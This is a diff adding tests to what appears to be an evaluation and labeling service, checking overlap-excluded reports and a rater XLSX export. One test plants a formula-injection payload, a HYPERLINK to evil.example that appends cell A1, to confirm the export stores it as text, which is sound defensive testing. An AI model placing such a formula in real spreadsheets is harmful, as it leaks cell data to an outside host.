@@ -781,6 +781,15 @@ async def test_overlap_shapes_empty_files_and_everything_excluded(service: Servi
     overall = report.json()["overall"]
     assert overall["n_pairs"] == 0 and overall["conclusion"] == "not_enough_evidence"
     assert report.json()["excluded"]["overlap"]["excluded_pairs"] == 4
+    assert report.json()["generation"]["n_pairs"] == 0 and report.json()["generation"]["unknown_pairs"] == 0
+    grouped = await service.http.get(
+        "/reports/win-rate", params={"experiment": "ovl", "exclude": "overlap", "group_by": "category"}, headers=read
+    )
+    assert grouped.status_code == 200 and grouped.json()["slices"] == [], grouped.text
+    failures = await service.http.get(
+        "/reports/failures", params={"experiment": "ovl", "exclude": "overlap"}, headers=read
+    )
+    assert failures.status_code == 200, failures.text
 
     # A training file with nothing to compare is refused: it would store a check finding nothing that
     # exclude=overlap would then read instead of the real one.
@@ -956,3 +965,39 @@ async def test_pairs_added_after_the_overlap_check_are_not_called_clean(service:
     report = (await service.http.get("/reports/win-rate", params=params, headers=read)).json()
     assert (report["excluded"]["overlap"]["excluded_pairs"], report["excluded"]["overlap"]["unchecked_pairs"]) == (2, 0)
     assert "overlap_unchecked" not in {w["code"] for w in report["overall"]["warnings"]}
+
+
+# -- the rater's XLSX sheet ----------------------------------------------------------------------
+
+
+async def test_rater_sheet_with_terminal_colours_formulas_and_unicode_rater(service: Service) -> None:
+    """Answers are untrusted: ESC/BEL (a coloured terminal answer) made openpyxl refuse the sheet (a 500),
+    "=..." became a live formula, and a rater named in Japanese could not go into the header (latin-1)."""
+    import io
+    import urllib.parse
+
+    from openpyxl import load_workbook
+
+    items = pair_items(3)
+    items[0]["ft_output"] = 'GOOD =HYPERLINK("http://x") \x1b[31m red \x1b[0m \x07 done'
+    items[1]["base_output"] = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    reply = await service.http.post(
+        "/judge/pairwise", json=pairwise_body(items, experiment="lab"), headers=service.auth("submit")
+    )
+    assert reply.status_code == 200, reply.text
+    task = {"experiment": "lab", "raters": ["日本", "bob"], "raters_per_pair": 2, "name": "t1"}
+    created = await service.http.post("/labeling/tasks", json=task, headers=service.auth("admin"))
+    assert created.status_code == 201, created.text
+    for rater in ("bob", "日本"):
+        sheet = await service.http.get(
+            "/labeling/tasks/t1/export", params={"rater": rater}, headers=service.auth("admin")
+        )
+        assert sheet.status_code == 200, sheet.text
+        disposition = sheet.headers["content-disposition"]
+        assert disposition.endswith("filename*=UTF-8''" + urllib.parse.quote(f"t1-{rater}.xlsx", safe=""))
+        ws = load_workbook(io.BytesIO(sheet.content))["labels"]
+        cells = [c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
+        texts = {c.value for c in cells}
+        assert 'GOOD =HYPERLINK("http://x") \u241b[31m red \u241b[0m \u2407 done' in texts
+        assert '=HYPERLINK("http://evil.example/?"&A1,"open")' in texts
+        assert all(c.data_type == "s" for c in cells)  # text, never a formula
